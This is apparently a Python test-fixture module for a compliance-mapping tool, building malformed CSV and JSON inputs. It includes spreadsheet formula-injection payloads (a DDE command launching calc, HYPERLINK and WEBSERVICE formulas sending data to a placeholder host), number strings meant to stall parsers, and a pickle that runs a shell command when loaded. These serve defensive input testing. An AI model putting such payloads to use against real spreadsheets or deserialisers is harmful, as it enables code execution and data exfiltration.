"""Files that a stranger might hand in: broken, hostile or merely odd, each made here by the fewest bytes that show it.

The ids are those of the project's study of bad inputs, so that a report about one can be found again.
"""

from __future__ import annotations

import gzip
import json
from typing import Any

from nis2map.ids import closed_set

ANNEX_A = [local for local in closed_set("iso27001") if local.startswith("A.") and local.count(".") == 2]


def _csv(*rows: str, end: str = "\r\n") -> bytes:
    return "".join(f"{row}{end}" for row in rows).encode()


HEAD = "Control,Applicable,Status,Completeness %,Justification"
FULL = [HEAD, *(f"{local},yes,implemented,100,wanted" for local in ANNEX_A)]
SHARES = "NaN inf -5 150 1e309 1_000 −5 nan% 1/2 0x1F ٧٥x".split()  # none is a percentage
YES_NO = "Ja Nein Oui Non Sí Tak Nie x ✓ TRUE 0 1 false".split()
# What a spreadsheet would work out, or fetch, if it were written back unescaped.
FORMULAS = (
    "=1+1", "=run|' /C calc'!A1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", '"=1+1"', '"\n=1+1"', "＝1+1", "＋1", "－1", "＠SUM(1)",
    '"=HYPERLINK(""http://host.invalid/?""&A1,""go"")"', '"=WEBSERVICE(""http://host.invalid"")"', "%0A=1+1", " =1+1", "'=1+1",
    ";=1+1", '"x,=1+1"', '"""=1+1"',
)  # fmt: skip


def _mixed_line_ends() -> bytes:
    ends = ("\r\n", "\n", "\r")
    return "".join(row + ends[at % 3] for at, row in enumerate(FULL)).encode()


CSV: dict[str, bytes] = {
    "C00": _csv(*FULL),
    "C03": _csv(*FULL).decode().encode("utf-16-be"),  # and no byte order mark
    "C04": "Control;Status;Justification\r\nA.5.1;implemented;Geprüft – gemäß Prüfplan\r\nA.5.2;implemented;x\r\n".encode(
        "cp1252"
    ),
    "C06": b"sep=;\r\n" + _csv(*FULL).replace(b",", b";"),
    "C08": _mixed_line_ends(),
    "C09": _csv(*FULL, end="\r"),
    "C10": b"Control,Status\nA.5\0.1,implemented\n",
    "C11": _csv(*FULL[:3], f'{ANNEX_A[2]},yes,implemented,100,"wanted', *FULL[4:]),  # a quote that nobody closes
    "C14": b"Control,Status,Status\nA.5.1,implemented,not implemented\n",
    "C15": b"Title,Status\nPolicies,implemented\n",
    "C18": _csv(HEAD, FULL[1], FULL[1]),
    "C19": _csv(HEAD, FULL[1], "A.5.1,yes,not implemented,0,wanted"),
    # a spreadsheet that read the ids as numbers and saved them: 5.10 became 5.1
    "C20": _csv(HEAD, *(f"{float(local[2:]):g},yes,implemented,100,wanted" for local in ANNEX_A)),
    "C25": _csv(HEAD, *(f"A.5.{at},yes,implemented,{share},wanted" for at, share in enumerate(SHARES, 1))),
    "C26": _csv("Control,Applicable", *(f"A.5.{at},{word}" for at, word in enumerate(YES_NO, 1))),
    "C27": _csv(HEAD, *(f"A.5.{at},yes,implemented,100,{text}" for at, text in enumerate(FORMULAS, 1))),
    "C31": "\ufeffControl,Status\nA.5.1,implemented\n\ufeffControl,Status\nA.5.2,implemented\n".encode(),  # two files in one
    "C32": gzip.compress(_csv(*FULL), mtime=0),
    "C33": _csv("Control,Status" + "," * 5000, "A.5.1,implemented" + "," * 5000),
    "C35": _csv("Control,Status", *(f"A.5.{number},implemented" for number in range(100, 3100))),  # 3,000 near misses
}


def document(findings: object, **top: Any) -> bytes:
    """Return an assessment in our layout, which `findings` may break."""
    return json.dumps({"nis2map": "assessment", "version": 1, "findings": findings} | top).encode()


GOOD = {"ref": "A.5.1", "status": "implemented"}
JSON: dict[str, bytes] = {
    "J00": document([GOOD]),
    "J05": document([{"ref": f"A.5.{at}", "status": "partial", "degree": 0} for at in (1, 2, 3)])
    .replace(b": 0}", b": NaN}", 1)
    .replace(b": 0}", b": Infinity}", 1)
    .replace(b": 0}", b": -Infinity}", 1),
    "J07": document([GOOD | {"justification": "half \ud800"}]),
    "J09": document([GOOD]).decode().encode("utf-16"),
    "J10null": b"null",
    "J10number": b"5.1",
    "J11": document([GOOD]) * 2,
    "J12": document(
        [
            {"ref": "A.5.1", "status": 1},
            {"ref": "A.5.2", "status": "partial", "degree": "abc"},
            GOOD | {"ref": "A.5.3", "applicable": "false"},
            GOOD | {"ref": None},
            GOOD | {"ref": ["A.5.1"]},
            "A.5.2",
        ]
    ),
    "J14": document([{"ref": "A.5.1", "status": "partial", "degree": True}]),
    "J17": document([GOOD], version="1"),
    # numbers in texts that would take forever, or fail, if somebody worked them out
    "J19": document(
        [
            {"ref": f"A.5.{at}", "status": "partial", "degree": text}
            for at, text in enumerate(("1e1000000000", "9" * 5000, "1/0"), 1)
        ]
    ),
    "J25": document([{"ref": local, "status": "not_applicable", "justification": "x"} for local in ANNEX_A]),
}

# Unpickling this would run a command that leaves a file behind.
PICKLE = b"cposix\nsystem\n(S'touch canary'\ntR."
